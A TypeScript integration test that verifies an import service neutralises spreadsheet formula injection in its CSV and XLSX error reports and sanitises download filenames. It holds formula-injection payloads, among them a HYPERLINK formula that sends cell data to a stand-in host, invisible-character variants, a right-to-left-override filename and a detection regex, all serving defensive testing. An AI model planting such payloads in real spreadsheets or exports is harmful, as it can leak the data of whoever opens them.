import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { nanaCsv, waitForImport } from '../support/http';
import { startStack, type Stack } from '../support/stack';
import { multipartBody, postRaw } from './api-support';

// Case 30 of the bad-input table: formula-like values are stored verbatim and neutralised in every report.
const FORMULAS = [
  '=HYPERLINK("http://x/?"&A1,"click")',
  '@SUM(1+1)',
  '-2+3',
  '+66812345678',
  '\tTAB',
  '\nLF',
  // Spreadsheets skip leading spaces and invisible characters, and fold full-width signs to ASCII.
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\u3000@SUM(1)',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
];
/** Starts no formula itself; a spreadsheet splitting on `;` would make `=1+1` a cell of its own unless the field is quoted. */
const SPLITTER = ';=1+1';
const DANGEROUS = /^(?:[\t\r\n]|[\s\u00a0\u200b-\u200f\u3000\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20])/;

let stack: Stack;
let importId: number;
beforeAll(async () => {
  stack = await startStack();
  // Every record is rejected (bad phone), so every formula lands in the reports.
  const file = nanaCsv(
    [...FORMULAS, SPLITTER].map((f, i) => ({
      nana_cus_id: `F${i}`,
      firstname: f,
      lastname: i % 2 ? f : 'Jaidee',
      email: f,
      phone: `not-a-phone-${i}`,
    })),
  );
  const boundary = 'reports';
  const body = multipartBody(
    [
      { name: 'source', content: 'nana' },
      { name: 'dryRun', content: 'true' },
      { name: 'file', filename: 'ลูกค้า report\u202E.csv', content: file },
    ],
    boundary,
  );
  const res = await postRaw(stack, body, `multipart/form-data; boundary=${boundary}`);
  expect(res.status).toBe(202);
  importId = res.body.id;
  const done = await waitForImport(stack, importId);
  expect(done.counts.rejected).toBe(FORMULAS.length + 1);
});
afterAll(async () => stack?.close());

async function download(ext: 'csv' | 'xlsx') {
  const res = await fetch(`${stack.baseUrl}/api/imports/${importId}/errors.${ext}`, {
    headers: { authorization: `Bearer ${stack.viewerToken}` },
  });
  expect(res.status).toBe(200);
  return { res, bytes: Buffer.from(await res.arrayBuffer()) };
}

async function storedFirstNames(): Promise<string[]> {
  const { rows } = await stack.pool.query(
    `SELECT record->>'firstname' AS v FROM import_errors WHERE import_id = $1 ORDER BY row_number`,
    [importId],
  );
  return rows.map((r) => r.v);
}

describe('error reports are safe to open in a spreadsheet', () => {
  it('keeps the original values in the database', async () => {
    expect(await storedFirstNames()).toEqual([...FORMULAS, SPLITTER]);
  });

  it('CSV: no cell starts with = + - @ (full-width too, after spaces or invisible characters), tab, CR or LF unless quoted with a leading apostrophe; every field is quoted', async () => {
    const { res, bytes } = await download('csv');
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('cache-control'), 'customer data: no copy kept').toBe('no-store');
    const rows: string[][] = parse(bytes, { bom: true, relax_column_count: true });
    const cells = rows.flat();
    expect(cells.filter((c) => DANGEROUS.test(c))).toEqual([]);
    for (const f of FORMULAS) expect(cells).toContain(`'${f}`);
    const text = new TextDecoder().decode(bytes);
    expect(text, 'every field quoted').toContain(`"${SPLITTER}"`);
    const header = text.replace(/^\ufeff/, '').split('\n')[0];
    expect(
      header.split(',').every((f) => /^".*"$/.test(f)),
      'the header quoted field by field',
    ).toBe(true);
  });

  it('xlsx: the same, every cell is text and none is a formula', async () => {
    const { res, bytes } = await download('xlsx');
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as never);
    const sheet = workbook.worksheets[0];
    const cells: string[] = [];
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        cells.push(String(cell.value));
      }),
    );
    expect(sheet.rowCount).toBe(FORMULAS.length + 2);
    expect(sheet.getRow(1).values).toEqual(
      expect.arrayContaining(['firstname', 'row_number', 'line_number', 'errors']),
    );
    expect(cells.filter((c) => DANGEROUS.test(c))).toEqual([]);
    for (const f of FORMULAS) expect(cells).toContain(`'${f}`);
    expect(await storedFirstNames()).toEqual([...FORMULAS, SPLITTER]);
  });

  it('names the download after the upload, sanitised, with an RFC 6266 UTF-8 name', async () => {
    for (const ext of ['csv', 'xlsx'] as const) {
      const { res } = await download(ext);
      const disposition = res.headers.get('content-disposition')!;
      expect(disposition).toMatch(/^attachment; filename="[\x20-\x7e]+"; filename\*=UTF-8''/);
      expect(disposition).not.toMatch(/[^\x20-\x7e]/);
      const encoded = /filename\*=UTF-8''(.+)$/.exec(disposition)![1];
      expect(decodeURIComponent(encoded)).toBe(`ลูกค้า report-import-${importId}-errors.${ext}`);
    }
  });

  it('answers 404 for an import that does not exist, 401 without a token', async () => {
    for (const ext of ['csv', 'xlsx']) {
      const missing = await fetch(`${stack.baseUrl}/api/imports/999999999999/errors.${ext}`, {
        headers: { authorization: `Bearer ${stack.viewerToken}` },
      });
      expect(missing.status).toBe(404);
      expect((await missing.json()).error.code).toBe('NOT_FOUND');
      expect((await fetch(`${stack.baseUrl}/api/imports/${importId}/errors.${ext}`)).status).toBe(401);
    }
  });
});
